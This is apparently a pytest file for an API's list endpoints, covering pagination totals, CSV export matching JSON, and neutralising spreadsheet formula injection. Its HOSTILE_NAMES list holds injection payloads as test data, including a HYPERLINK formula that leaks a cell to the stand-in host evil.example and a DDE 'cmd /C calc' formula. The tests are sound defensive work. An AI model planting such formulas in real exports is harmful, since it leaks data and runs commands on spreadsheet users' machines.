"""Lists over the API: pagination totals, and `?format=csv` / `Accept: text/csv` giving the
same items as the JSON (on SQLite and PostgreSQL), with text a spreadsheet would run as a
formula neutralised (issue 9, item 9)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
import web_setup

from computegov.api.lists import csv_text
from computegov.csv_cells import FORMULA_STARTS, write_csv
from conftest import World


def _same_value(cell: str, value: Any) -> bool:
    """A CSV cell against its JSON value: null empty, nested JSON-encoded, scalars as text."""
    if value is None:
        return cell == ""
    if isinstance(value, bool):
        return cell == ("true" if value else "false")
    if isinstance(value, dict | list):
        return bool(json.loads(cell) == value)
    if isinstance(value, int | float):
        return float(cell) == value
    if value.startswith(FORMULA_STARTS):  # neutralised for spreadsheets
        return cell == "'" + value
    return cell == value


def _assert_csv_matches(text: str, items: list[dict[str, Any]]) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(items)
    for row, item in zip(rows, items, strict=True):
        assert set(row) == set(item)
        for key, value in item.items():
            assert _same_value(row[key], value), (key, row[key], value)


@pytest.mark.parametrize(
    "path",
    [
        "/v1/parties",
        "/v1/flags",
        "/v1/stats/chips?by=party&by=status",
    ],
)
def test_csv_of_each_list_matches_its_json_items(world: World, path: str) -> None:
    web_setup.build(world)
    as_json = world.get(world.admin, path).json()
    assert as_json["items"], "the fixture gives every list something to show"
    joiner = "&" if "?" in path else "?"
    by_query = world.get(world.admin, f"{path}{joiner}format=csv")
    assert by_query.status_code == 200
    assert by_query.headers["content-type"].startswith("text/csv")
    assert by_query.headers["content-disposition"].startswith("attachment; filename=")
    assert by_query.headers["content-disposition"].endswith('.csv"')
    _assert_csv_matches(by_query.text, as_json["items"])
    by_accept = world.get(world.admin, path, headers={"Accept": "text/csv"})
    assert by_accept.headers["content-type"].startswith("text/csv")
    assert by_accept.text == by_query.text


def test_json_stays_the_answer_when_the_client_prefers_it(world: World) -> None:
    prefers_json = {"Accept": "application/json, text/csv;q=0.5"}
    response = world.get(world.admin, "/v1/parties", headers=prefers_json)
    assert response.headers["content-type"].startswith("application/json")
    assert response.json()["total"] == 1
    forced = world.get(world.admin, "/v1/parties?format=json", headers={"Accept": "text/csv"})
    assert forced.headers["content-type"].startswith("application/json")


def test_nested_values_are_json_in_csv_cells(world: World) -> None:
    fx = web_setup.build(world)
    text = world.get(world.admin, "/v1/flags?format=csv").text
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["id"] == fx.flag_id
    assert json.loads(row["countries"]) == ["CN"]
    assert json.loads(row["evidence"])["reported_by"] == fx.dev.id


def test_pagination_reports_the_total_and_the_page(world: World) -> None:
    web_setup.build(world)
    everything = world.get(world.admin, "/v1/parties?limit=1000").json()
    assert everything["total"] == 7  # the administrator and the fixture's six parties
    page = world.get(world.admin, "/v1/parties?limit=2&offset=5").json()
    assert (page["total"], page["limit"], page["offset"]) == (7, 2, 5)
    assert page["items"] == everything["items"][5:7]
    beyond = world.get(world.admin, "/v1/parties?limit=2&offset=7").json()
    assert (beyond["total"], beyond["items"]) == (7, [])
    csv_page = world.get(world.admin, "/v1/parties?limit=2&offset=5&format=csv")
    assert len(list(csv.DictReader(io.StringIO(csv_page.text)))) == 2
    assert 'filename="parties-from-5.csv"' in csv_page.headers["content-disposition"]
    assert csv_page.headers["x-total-count"] == "7"


def test_flags_are_paginated(world: World) -> None:
    web_setup.build(world)
    page = world.get(world.admin, "/v1/flags?limit=1&offset=1").json()
    assert (page["total"], page["limit"], page["offset"], page["items"]) == (1, 1, 1, [])


@pytest.mark.parametrize("query", ["limit=0", "limit=1001", "offset=-1", "format=xml"])
def test_bad_paging_or_format_is_a_problem(world: World, query: str) -> None:
    response = world.get(world.admin, f"/v1/parties?{query}")
    assert response.status_code in (400, 422)
    assert response.headers["content-type"].startswith("application/problem+json")


HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open the invoice")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",  # not "\r=1+1": names differing only in whitespace are one party's
]


def test_a_party_named_like_a_formula_comes_back_as_text_in_csv(world: World) -> None:
    for name in HOSTILE_NAMES:
        world.create(world.admin, "cloud_provider", name, "NL")
    as_json = world.get(world.admin, "/v1/parties?limit=1000").json()["items"]
    assert {p["legal_name"] for p in as_json} >= set(HOSTILE_NAMES)  # JSON is never changed
    text = world.get(world.admin, "/v1/parties?limit=1000&format=csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {row["legal_name"] for row in rows}
    assert names >= {"'" + name for name in HOSTILE_NAMES}
    for row in rows:  # no cell of the export starts like a formula
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell
    _assert_csv_matches(text, as_json)


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text() -> None:
    """Numbers the registry produces (int, float) are written as they are, negative ones
    too, so a spreadsheet sums and sorts them; only text is neutralised, even text that
    looks like a negative number (a serial `-5` is not a number)."""
    items = [{"delta": -3, "share": -0.25, "chips": 7, "serial": "-5", "name": "=1+1"}]
    (row,) = list(csv.reader(io.StringIO(csv_text(items))))[1:]
    assert row == ["-3", "-0.25", "7", "'-5", "'=1+1"]
    out = io.StringIO()
    write_csv(out, ["year", "change", "label"], [[2030, -1.5, "-high"], [2031, 2, "@x"]])
    assert out.getvalue() == "year,change,label\r\n2030,-1.5,'-high\r\n2031,2,'@x\r\n"
